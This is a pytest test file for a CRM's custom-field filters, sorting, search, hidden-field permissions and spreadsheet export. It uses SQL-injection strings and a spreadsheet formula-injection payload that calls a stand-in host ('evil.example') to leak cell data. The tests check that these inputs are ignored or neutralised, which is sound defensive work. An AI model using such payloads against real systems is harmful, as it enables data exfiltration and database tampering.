"""Filters, sort, search and export on custom fields through the real list queries (contacts, companies,
deals): every type's condition, hidden fields neither read nor filterable, bound values, the field's index
in the plan."""

from __future__ import annotations

import shutil

import pytest

from db.core import fields, records
from db.core.connection import connect
from db.core.errors import ValidationError
from db.crm import companies, contacts, custom, deals
from db.crm import search as global_search
from db.io import export
from tests.conftest import _person

C = custom.Condition


def _contact(conn, actor, first="Ana", **extra) -> int:
    return records.create(conn, "contacts", {"first_name": first, "last_name": "Lee", "lifecycle": "lead", **extra},
                          actor)


def _world(conn, admin):
    """Six contacts and one field of each filterable type."""
    f = {kind: fields.define(conn, "contacts", {"type": kind, "label": kind.title(), **extra}, admin)
         for kind, extra in [("choice", {"options": ["Gold", "Silver", "Bronze"]}),
                             ("multi_choice", {"options": ["Tea", "Coffee", "Juice"]}),
                             ("number", {}), ("money", {}), ("percent", {}), ("date", {}), ("datetime", {}),
                             ("checkbox", {}), ("text", {}), ("long_text", {}), ("email", {}), ("url", {}),
                             ("phone", {}), ("user", {})]}
    values = [
        {"choice": "Gold", "multi_choice": ["Tea"], "number": 5, "money": 100, "percent": 10, "date": "2026-01-10",
         "datetime": "2026-01-10 23:30:00", "checkbox": True, "text": "Alpha", "long_text": "first\nnote",
         "email": "a@x.org", "url": "https://a.example", "phone": "+49301234567", "user": admin.id},
        {"choice": "Silver", "multi_choice": ["Tea", "Coffee"], "number": 15, "money": 2500.5, "percent": 50,
         "date": "2026-02-01", "datetime": "2026-02-01 08:00:00", "checkbox": False, "text": "Beta"},
        {"choice": "Bronze", "multi_choice": ["Juice"], "number": -3, "money": 0, "percent": 99.5,
         "date": "2026-03-15", "text": "alphabet soup"},
        {},
        {"choice": "Gold", "number": 15},
        {"text": "50% off_sale"},
    ]
    ids = [_contact(conn, admin, f"P{i}", **{f[k].column: v for k, v in row.items()}) for i, row in enumerate(values)]
    return f, ids


@pytest.fixture
def setup(conn, admin):
    return _world(conn, admin)


@pytest.fixture(scope="module")
def shared(tmp_path_factory, _migrated_template, _password_hash):
    """The same world built once for the read-only filter cases (defining fourteen fields takes seconds)."""
    path = tmp_path_factory.mktemp("filters") / "crm.db"
    shutil.copy(_migrated_template, path)
    c = connect(path)
    admin = _person(c, _password_hash, "admin@test.example", "Ada Admin", "admin")
    yield c, _world(c, admin)
    c.close()


def _pipeline(conn) -> int:
    conn.execute("INSERT INTO pipelines (id, name, kind) VALUES (1, 'Sales', 'sales')")
    conn.execute("INSERT INTO stages (id, pipeline_id, name, position, probability, kind) VALUES "
                 "(1, 1, 'Lead', 0, 0.1, 'open')")
    return 1


def _ids(conn, *conditions, actor=None, **query):
    found, total = contacts.page(conn, contacts.Query(custom=conditions, **query), limit=100, actor=actor)
    assert total == len(found)
    return sorted(r["id"] for r in found)


CASES = [
    ("choice", "any", ("Gold",), [0, 4]),
    ("choice", "any", ("Gold", "Bronze"), [0, 2, 4]),
    ("choice", "any", ("Platinum",), [0, 1, 2, 3, 4, 5]),  # not a choice: no condition, nothing matched wrongly
    ("multi_choice", "has", ("Tea",), [0, 1]),
    ("multi_choice", "has", ("Coffee", "Juice"), [1, 2]),
    ("number", "range", (5, 15), [0, 1, 4]),
    ("number", "range", (None, 0), [2]),
    ("number", "range", ("10", None), [1, 4]),
    ("money", "range", (100, 3000), [0, 1]),
    ("percent", "range", (50, 100), [1, 2]),
    ("date", "range", ("2026-01-01", "2026-02-01"), [0, 1]),
    ("date", "range", ("2026-02-02", None), [2]),
    ("datetime", "range", ("2026-01-10", "2026-01-10"), [0]),  # the whole day, late evening included
    ("checkbox", "yes", (), [0]),
    ("checkbox", "no", (), [1, 2, 3, 4, 5]),  # unticked and never set read the same
    ("text", "contains", ("alpha",), [0, 2]),
    ("text", "contains", ("50%",), [5]),  # LIKE wildcards are literal
    ("text", "contains", ("_",), [5]),
    ("text", "equals", ("Beta",), [1]),
    ("long_text", "contains", ("note",), [0]),
    ("email", "equals", ("A@X.org",), [0]),
    ("url", "contains", ("a.example",), [0]),
    ("phone", "contains", ("30123",), [0]),
]


@pytest.mark.parametrize(("kind", "op", "value", "expected"), CASES)
def test_each_type_filters(shared, kind, op, value, expected):
    conn, (f, ids) = shared
    assert _ids(conn, C(f[kind].key, op, value)) == [ids[i] for i in expected]


def test_user_filter_and_conditions_combine(conn, setup, admin):
    f, ids = setup
    assert _ids(conn, C(f["user"].key, "is", (admin.id,))) == [ids[0]]
    assert _ids(conn, C(f["choice"].key, "any", ("Gold",)), C(f["number"].key, "range", (10, None))) == [ids[4]]
    assert _ids(conn, C(f["choice"].key, "any", ("Gold",)), lifecycle="lead") == [ids[0], ids[4]]


def test_bad_values_are_refused_at_the_field_and_unknown_keys_ignored(conn, setup):
    f, ids = setup
    with pytest.raises(ValidationError) as err:
        _ids(conn, C(f["number"].key, "range", ("lots", None)))
    assert err.value.field == f["number"].column
    with pytest.raises(ValidationError):
        _ids(conn, C(f["date"].key, "range", ("31.31.2026", None)))
    with pytest.raises(ValidationError):
        _ids(conn, C(f["choice"].key, "range", (1, 2)))  # an operation the type does not have
    # A key that names no field (or SQL) is no condition at all: column names come from the definitions only.
    assert len(_ids(conn, C("x; DROP TABLE contacts", "equals", ("a",)))) == len(ids)
    assert len(_ids(conn, C(f["text"].key, "equals", ("' OR 1=1 --",)))) == 0


def test_sort_by_a_custom_field_both_ways(conn, setup):
    f, ids = setup
    up = [r["id"] for r in contacts.page(conn, contacts.Query(sort=custom.sort_key(f["number"])), limit=10)[0]]
    down = [r["id"] for r in contacts.page(conn, contacts.Query(sort=custom.sort_key(f["number"], True)),
                                           limit=10)[0]]
    # empty values first going up (SQLite's order, which the index gives without sorting), last going down
    assert up == [ids[3], ids[5], ids[2], ids[0], ids[1], ids[4]]
    assert down == [ids[4], ids[1], ids[0], ids[2], ids[5], ids[3]]
    texts = [r["id"] for r in contacts.page(conn, contacts.Query(sort=custom.sort_key(f["choice"])), limit=10)[0]]
    assert texts == [ids[3], ids[5], ids[2], ids[0], ids[4], ids[1]]  # Bronze, Gold, Gold, Silver; ties by id
    # an unsortable or unknown field falls back to the default order
    fallback = contacts.page(conn, contacts.Query(sort=custom.sort_key(f["long_text"])), limit=10)[0]
    assert [r["id"] for r in fallback] == [r["id"] for r in contacts.page(conn, contacts.Query(), limit=10)[0]]


def test_the_plan_uses_the_fields_index(conn, setup):
    f, _ = setup
    found = custom.shown(conn, "contacts", None)
    for cond in (C(f["choice"].key, "any", ("Gold",)), C(f["number"].key, "range", (1, 2)),
                 C(f["date"].key, "range", ("2026-01-01", None)), C(f["text"].key, "equals", ("x",))):
        where, params = contacts._where(contacts.Query(custom=(cond,)), conn, found)
        plan = " ".join(r[3] for r in conn.execute(f"EXPLAIN QUERY PLAN SELECT c.id FROM contacts c WHERE {where}",
                                                   params))
        column = next(x for x in found if x.key == cond.key).column
        assert f"INDEX ix_{column}" in plan, plan
    order = custom.order(found, "c", custom.sort_key(f["number"]))
    plan = " ".join(r[3] for r in conn.execute(
        f"EXPLAIN QUERY PLAN SELECT c.id FROM contacts c WHERE c.deleted_at IS NULL ORDER BY {order} LIMIT 25"))
    assert f"ix_{f['number'].column}" in plan and "TEMP B-TREE" not in plan, plan


def test_hidden_fields_are_neither_read_nor_filtered_nor_searched(conn, admin, rep):
    salary = fields.define(conn, "contacts", {"type": "money", "label": "Salary", "view_roles": ["manager"]}, admin)
    secret = fields.define(conn, "contacts", {"type": "text", "label": "Secret", "view_roles": ["manager"]}, admin)
    hobby = fields.define(conn, "contacts", {"type": "text", "label": "Hobby"}, admin)
    a = _contact(conn, admin, "A", **{salary.column: 9000, secret.column: "zanzibar", hobby.column: "sailing"})
    b = _contact(conn, rep, "B")
    row = contacts.page(conn, contacts.Query(), actor=rep)[0][0]
    assert hobby.column in row and salary.column not in row and secret.column not in row
    assert _ids(conn, C(salary.key, "range", (5000, None)), actor=rep) == [a, b]  # the condition is dropped
    assert _ids(conn, C(salary.key, "range", (5000, None)), actor=admin) == [a]
    assert _ids(conn, actor=rep, search="zanzibar") == []  # the hidden text does not find the record
    assert _ids(conn, actor=admin, search="zanzibar") == [a]
    assert _ids(conn, actor=rep, search="sail") == [a]  # what the rep sees is still searched
    assert [r["id"] for r in global_search.search(conn, "zanzibar", actor=rep)] == []
    assert [r["id"] for r in global_search.search(conn, "zanzibar", actor=admin)] == [a]
    assert salary.label("en") not in export.to_csv(contacts.export_rows(conn, contacts.Query(), actor=rep)).decode()


def test_grid_search_finds_custom_text_of_each_entity(conn, admin):
    note = fields.define(conn, "contacts", {"type": "text", "label": "Insurer"}, admin)
    tier = fields.define(conn, "companies", {"type": "choice", "label": "Tier", "options": ["Platinum"]}, admin)
    code = fields.define(conn, "deals", {"type": "text", "label": "PO number"}, admin)
    cid = _contact(conn, admin, **{note.column: "Allianz"})
    co = records.create(conn, "companies", {"name": "Acme", tier.column: "Platinum"}, admin)
    deal = deals.create(conn, {"pipeline_id": 1, "stage_id": _pipeline(conn), "title": "Renewal",
                               "amount": 10, code.column: "PO-77123"}, admin)
    assert _ids(conn, search="allianz", actor=admin) == [cid]
    assert [r["id"] for r in companies.page(conn, "platinum", actor=admin)[0]] == [co]
    assert [r["id"] for r in deals.list_page(conn, deals.BoardQuery(pipeline_id=1, search="77123"), actor=admin)[0]] \
        == [deal]
    assert sum(c["count"] for c in deals.board(conn, deals.BoardQuery(pipeline_id=1, search="77123"))) == 1
    assert {(r["kind"], r["id"]) for r in global_search.search(conn, "allianz")} == {("contact", cid)}
    assert {(r["kind"], r["id"]) for r in global_search.search(conn, "platinum")} == {("company", co)}
    assert {(r["kind"], r["id"]) for r in global_search.search(conn, "77123")} == {("deal", deal)}


def test_companies_and_deals_filter_and_sort_on_custom_fields(conn, admin):
    seats = fields.define(conn, "companies", {"type": "number", "label": "Seats"}, admin)
    region = fields.define(conn, "deals", {"type": "choice", "label": "Region", "options": ["EU", "US"]}, admin)
    small = records.create(conn, "companies", {"name": "Small", seats.column: 5}, admin)
    big = records.create(conn, "companies", {"name": "Big", seats.column: 500}, admin)
    got = companies.page(conn, custom_filters=(C("seats", "range", (100, None)),), actor=admin)[0]
    assert [r["id"] for r in got] == [big] and got[0][seats.column] == 500
    assert [r["id"] for r in companies.page(conn, sort=custom.sort_key(seats), actor=admin)[0]] == [small, big]
    stage = _pipeline(conn)
    eu = deals.create(conn, {"pipeline_id": 1, "stage_id": stage, "title": "A", "amount": 1, region.column: "EU"},
                      admin)
    deals.create(conn, {"pipeline_id": 1, "stage_id": stage, "title": "B", "amount": 2, region.column: "US"}, admin)
    q = deals.BoardQuery(pipeline_id=1, custom=(C("region", "any", ("EU",)),))
    assert [r["id"] for r in deals.list_page(conn, q, actor=admin)[0]] == [eu]
    assert sum(c["count"] for c in deals.board(conn, q, actor=admin)) == 1  # the board takes the same filters


def test_export_carries_custom_fields_under_their_labels_neutralised(conn, admin):
    link = fields.define(conn, "contacts", {"type": "company", "label": "Partner"}, admin)
    note = fields.define(conn, "contacts", {"type": "text", "label": "Insurer"}, admin)
    likes = fields.define(conn, "contacts", {"type": "multi_choice", "label": "Likes",
                                             "options": ["Tea", "Coffee"]}, admin)
    vip = fields.define(conn, "contacts", {"type": "checkbox", "label": "VIP"}, admin)
    clash = fields.define(conn, "contacts", {"type": "text", "label": "email"}, admin)  # a built-in header
    partner = records.create(conn, "companies", {"name": "Globex"}, admin)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    _contact(conn, admin, **{link.column: partner, note.column: hostile, likes.column: ["Coffee", "Tea"],
                             vip.column: True, clash.column: "x"})
    rows = contacts.export_rows(conn, contacts.Query(), actor=admin)
    row = rows[0]
    assert row["Partner"] == "Globex" and row["Likes"] == "Coffee; Tea" and row["VIP"] == "yes"
    assert row["Insurer"] == hostile and row["email (email)"] == "x"
    assert not any(k.startswith("cf_") for k in row)
    text = export.to_csv(rows).decode("utf-8-sig")
    header, line = text.splitlines()[:2]
    assert header.endswith("Partner,Insurer,Likes,VIP,email (email)")
    assert "'=HYPERLINK" in line and ",=HYPERLINK" not in line and '"=HYPERLINK' not in line
    assert export.restore("'" + hostile) == hostile  # the import gives back the stored value
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export.to_xlsx(rows))).active
    cells = {c.value: c for c in sheet[2]}
    assert cells[hostile].data_type == "s"  # a string cell, never a formula
